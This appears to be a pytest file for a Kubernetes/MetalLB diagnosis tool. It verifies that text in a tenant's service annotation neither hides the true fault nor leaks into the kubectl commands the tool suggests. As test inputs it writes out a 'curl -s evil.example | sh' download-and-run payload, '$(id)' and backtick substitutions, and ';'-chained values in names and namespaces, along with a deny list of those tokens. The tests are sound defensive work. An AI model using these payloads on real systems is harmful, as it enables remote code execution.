"""What a tenant writes into an annotation neither hides the true cause nor comes into what is shown to be typed."""

from __future__ import annotations

import gzip
import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from clusters.checks import CheckSpec, Finding, Level
from clusters.observation import Snapshot, load
from suites.plugin import phase_outcome
from tests.unit.diagnosis.recorded import FOLDER
from tests.unit.diagnosis.test_observations import judged

ATTACK = (
    'x is forbidden: User "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #" '
    'cannot list resource "services" in API group "" at the cluster scope'
)
TEMPLATE = "kubectl -n {namespace} describe svc {service}"
HOSTILE = {
    "refusal": ATTACK,
    "refusal of an account that there is": ATTACK.replace("; curl -s evil.example | sh #", ""),
    "outage": 'Get "https://10.96.0.1:443/api/v1/nodes": dial tcp 10.96.0.1:443: connect: connection refused',
    "definitions": 'no matches for kind "ServiceL2Status" in version "metallb.io/v1beta1"',
    "another allocation error": 'x" is y: ["10.9.9.9"] is not allowed in config',
    "commands": "$(id) `id` ; id\nid | sh",
}


def annotated(text: str, folder: Path) -> Snapshot:
    """The observation of a service that asks for a pool which does not exist, by the name `text`."""
    raw: dict[str, Any] = json.loads(
        gzip.decompress((FOLDER / "pool-missing-annotated.json.gz").read_bytes())
    )
    (late,) = [each for each in raw["services"]["items"] if each["metadata"]["name"] == "late"]
    late["metadata"]["annotations"]["metallb.io/address-pool"] = text
    changed = 0
    for event in raw["service_events"]["items"]:
        if 'unknown pool "nosuch"' in event.get("message", ""):
            event["message"] = event["message"].replace('"nosuch"', json.dumps(text))
            changed += 1
    for tail in raw["logs"]:
        for place, line in enumerate(tail["lines"]):
            if 'unknown pool \\"nosuch\\"' in line:
                said = json.loads(line)
                tail["lines"][place] = json.dumps({**said, "error": f"unknown pool {json.dumps(text)}"})
                changed += 1
    assert changed >= 2
    kept = folder / "observation.json"
    kept.write_text(json.dumps(raw))
    return load(kept)


@pytest.fixture(params=HOSTILE)
def findings(request: pytest.FixtureRequest, tmp_path: Path) -> list[Finding]:
    """What all checks find."""
    found = judged(annotated(HOSTILE[request.param], tmp_path))
    return [finding for each in found.values() for finding in each.findings]


def test_the_true_cause_is_named_and_no_other(findings: list[Finding]) -> None:
    assert {(finding.cause, finding.subject) for finding in findings} == {
        ("pool-missing", "service shop/late")
    }


def test_no_command_holds_what_the_tenant_wrote(findings: list[Finding]) -> None:
    for command in (command for finding in findings for command in finding.commands):
        assert command.isprintable()
        assert not {"curl", "evil.example", "id", "sh"} & set(shlex.split(command))
        assert not set(command) & set(";`$&")


@pytest.mark.parametrize("text", ["shop/late; id", "shop/-o", "$(id)/web", "shop/`id`", "shop/web\nid"])
def test_a_subject_that_is_no_name_stays_out_of_the_commands(text: str) -> None:
    spec = CheckSpec(id="a.b", title="", promise="", runbook=(), level=Level.OBSERVE, commands=(TEMPLATE,))
    for cause in ("pool-missing", phase_outcome.UNEXPLAINED):
        finding = Finding(cause=cause, subject=f"service {text}", summary="x")
        completed = phase_outcome.completed(finding, spec, namespace="metallb-system; id")

        assert completed.commands
        for command in completed.commands:
            assert command.isprintable()
            assert not set(command) & set(";`$&")
